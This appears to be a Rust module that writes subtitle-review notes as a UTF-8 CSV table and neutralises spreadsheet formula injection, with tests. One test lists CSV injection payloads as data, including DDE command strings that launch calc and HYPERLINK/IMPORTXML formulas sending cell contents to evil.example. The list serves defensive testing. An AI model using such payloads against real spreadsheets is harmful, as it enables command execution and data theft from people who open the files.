//! A hand-back as a table for spreadsheets.

use std::fmt::Write as _;

use super::{Asked, HandBack, suggested, written};

/// A row for each note of what is asked, and one for each cue that was sent back
/// without a word (RFC 4180). The mark at the start says that it is UTF-8.
pub(super) fn table(handed: &HandBack) -> String {
    let mut text = String::from("\u{feff}");
    line(
        &mut text,
        [
            "What",
            "Time",
            "Text",
            "Author",
            "Written",
            "Comment",
            "Suggestion",
        ],
    );
    for asked in &handed.asked {
        let Asked {
            label,
            at,
            text: says,
            ..
        } = asked;
        if asked.notes.is_empty() {
            line(
                &mut text,
                [label, &at.to_string(), says, "", "", "Sent back", ""],
            );
        }
        for note in &asked.notes {
            let (written, suggested) = (written(note), suggested(note));
            line(
                &mut text,
                [
                    label,
                    &at.to_string(),
                    says,
                    &note.author,
                    &written,
                    &note.text,
                    &suggested,
                ],
            );
        }
    }
    text
}

fn line(text: &mut String, cells: [&str; 7]) {
    for (at, content) in cells.into_iter().enumerate() {
        let comma = if at > 0 { "," } else { "" };
        // Writing to a string does not fail.
        let _ = write!(text, "{comma}\"{}\"", cell(content));
    }
    text.push_str("\r\n");
}

/// Text that no spreadsheet takes for a formula: where one would look for it, an
/// apostrophe stands before it (OWASP, CSV injection). Quotes are doubled.
fn cell(content: &str) -> String {
    let starts = content.trim_start_matches([' ', '\u{a0}', '\u{feff}']);
    let is_formula = starts.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
    ]);
    let guard = if is_formula { "'" } else { "" };
    format!("{guard}{}", content.replace('"', "\"\""))
}

#[cfg(test)]
mod tests {
    use super::super::hand_back;
    use super::super::tests::reviewed;
    use super::*;

    /// Cells as a spreadsheet reads them.
    fn cells(table: &str) -> Vec<Vec<String>> {
        let mut rows = vec![vec![String::new()]];
        let mut chars = table.trim_start_matches('\u{feff}').chars().peekable();
        let mut quoted = false;
        while let Some(c) = chars.next() {
            let row = rows.last_mut().expect("a row");
            match c {
                '"' if quoted && chars.peek() == Some(&'"') => {
                    chars.next();
                    row.last_mut().expect("a cell").push('"');
                }
                '"' => quoted = !quoted,
                ',' if !quoted => row.push(String::new()),
                '\r' if !quoted => {}
                '\n' if !quoted => rows.push(vec![String::new()]),
                c => row.last_mut().expect("a cell").push(c),
            }
        }
        assert_eq!(rows.pop(), Some(vec![String::new()]), "it ends with a line");
        rows
    }

    #[test]
    fn no_cell_is_a_formula_and_none_reaches_into_the_next() {
        let attacks = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Error\")",
            "=IMPORTXML(CONCAT(\"http://evil.example?v=\",A2:E2),\"//a\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u{ff1d}1+1",
            "\u{feff}=1+1",
            "\",=1+1",
            "x\",\"=1+1",
            "x\r\n=1+1",
            "x;=1+1",
        ];
        for attack in attacks {
            let (document, track) = reviewed(attack);
            let handed = hand_back(&document, track, None).expect("there");
            let rows = cells(&table(&handed));
            assert_eq!(rows.len(), 5, "{attack:?}");
            for row in &rows {
                assert_eq!(row.len(), 7, "{attack:?}");
                for cell in row {
                    let formula = ['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}'];
                    assert!(
                        !cell
                            .trim_start_matches([' ', '\u{feff}'])
                            .starts_with(formula),
                        "{attack:?}: {cell:?}"
                    );
                }
            }
            let comment = &rows[1][5];
            assert!(comment.trim_start_matches('\'') == attack, "{comment:?}");
        }
    }

    #[test]
    fn what_is_harmless_stays_as_it_is() {
        let (document, track) = reviewed("Tea, \u{201c}please\u{201d} - or \"coffee\"");
        let handed = hand_back(&document, track, None).expect("there");
        let rows = cells(&table(&handed));
        let words = "Tea, \u{201c}please\u{201d} - or \"coffee\"";
        let first = [
            "Cue 1",
            "0:00:00.000",
            words,
            words,
            "2025-11-13 02:13 UTC",
            words,
            words,
        ];
        assert_eq!(rows[1], first);
        assert_eq!(rows[3][..3], ["Cue 2", "0:00:01.000", words]);
        assert_eq!(rows[3][5], "Sent back");
        assert_eq!(rows[4][2], "", "a moment says nothing");
    }
}
